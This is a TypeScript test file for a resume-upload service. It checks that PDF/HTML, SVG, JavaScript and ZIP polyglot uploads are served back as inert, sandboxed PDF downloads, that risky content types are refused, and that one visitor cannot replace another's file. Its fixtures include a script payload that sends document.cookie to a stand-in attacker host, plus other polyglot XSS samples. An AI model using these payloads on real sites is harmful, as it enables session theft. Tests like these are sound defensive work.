import { get } from 'node:http'
import { buffer } from 'node:stream/consumers'
import { describe, expect, it } from 'vitest'
import { bucket, newPath, pdfFile, server, upload } from '../testing/resumes.ts'

// OWASP A08, integrity failures: a file may be a PDF by its first bytes and something else to a browser.

const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
const polyglots: [string, string][] = [
  ['HTML', `%PDF-1.7\n<!doctype html><html><body>${script}</body></html>`],
  ['HTML right after the first bytes', `%PDF-<html><title>Factura</title>${script}`],
  ['SVG', `%PDF-1.7\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`],
  ['JavaScript', '%PDF-1.7\n*/=1;alert(document.domain)//'],
  ['a script for PDF readers', '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'],
  ['a ZIP with a program', `%PDF-1.7\nPK\u0003\u0004evil.exe`],
]

const read = (url: string, headers: Record<string, string> = {}) => fetch(url, { headers })

describe.each(polyglots)('an upload that begins like a PDF and contains %s', (_, content) => {
  it('is downloaded unchanged, as a PDF in which nothing runs', async () => {
    const { url } = await upload(Buffer.from(content))
    const asks = [url, `${url}?download=factura.html`, `${url}?download=`, `${url}?format=html`]
    for (const ask of asks)
      for (const accept of ['text/html', 'image/svg+xml', '*/*']) {
        const { headers, ...answer } = await read(ask, { accept }).then(async (it) => ({
          headers: it.headers,
          text: await it.text(),
        }))
        expect(answer.text).toBe(content)
        expect(headers.get('content-type')).toBe('application/pdf')
        expect(headers.get('x-content-type-options')).toBe('nosniff')
        expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
        expect(headers.get('content-disposition')).toMatch(
          /^attachment; filename="[^"]+\.pdf"; filename\*=UTF-8''\S+\.pdf$/,
        )
        expect(headers.get('x-frame-options')).toBe('DENY')
        expect(headers.get('x-robots-tag')).toBe('none')
      }
  })

  it('is a PDF in parts too, where a part could begin with the HTML', async () => {
    const { url } = await upload(Buffer.from(content))
    const answer = await read(url, { range: 'bytes=9-' })
    expect(answer.status).toBe(206)
    expect(answer.headers.get('content-type')).toBe('application/pdf')
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment/)
    expect(answer.headers.get('content-security-policy')).toMatch(/sandbox/)
  })
})

describe('an upload', () => {
  it.each(['html', 'svg', 'exe', 'hta', 'js'])(
    'to a name with .%s is downloaded as .pdf',
    async (extension) => {
      const { url } = await upload(Buffer.from('%PDF-1.7'), newPath().replace(/pdf$/, extension))
      const disposition = (await read(url)).headers.get('content-disposition')
      expect(disposition).toMatch(new RegExp(`^attachment; filename="[\\w-]+\\.${extension}\\.pdf"; `))
    },
  )

  it.each([
    'text/html',
    'image/svg+xml',
    'application/xhtml+xml',
    'application/pdf, text/html',
    'application/pdf/../../text/html',
    'text/html; x=application/pdf',
    'application/x-pdf',
    '*/*',
  ])('of the type «%s» is refused', async (type) => {
    const sent = await bucket().upload(newPath(), pdfFile(Buffer.from('%PDF-1.7'), type))
    expect(sent.error).toMatchObject({ statusCode: '415' })
    const headers = { apikey: server.anonKey, 'content-type': type }
    const raw = await fetch(`${server.url}/storage/v1/object/applications/${newPath()}`, {
      method: 'POST',
      headers,
      body: '%PDF-1.7',
    })
    // The parameters of a type are cut off, and the rest is refused.
    expect((await raw.json()).statusCode).toBe('415')
  })
})

it('a visitor cannot replace, move or remove the resume of another', async () => {
  const { path, url } = await upload(Buffer.from('%PDF-1.7 the first'))
  for (const upsert of [false, true]) {
    const { error } = await bucket().upload(path, pdfFile(Buffer.from('%PDF-1.7 the second')), { upsert })
    expect(error).not.toBeNull()
  }
  expect((await bucket().update(path, pdfFile(Buffer.from('%PDF-1.7 the second')))).error).not.toBeNull()
  expect((await bucket().move(path, newPath())).error).not.toBeNull()
  expect((await bucket().remove([path])).data).toEqual([])
  const answer = await new Promise<Buffer>((resolve, reject) =>
    get(url, (res) => buffer(res).then(resolve, reject)),
  )
  expect(answer.toString()).toBe('%PDF-1.7 the first')
})
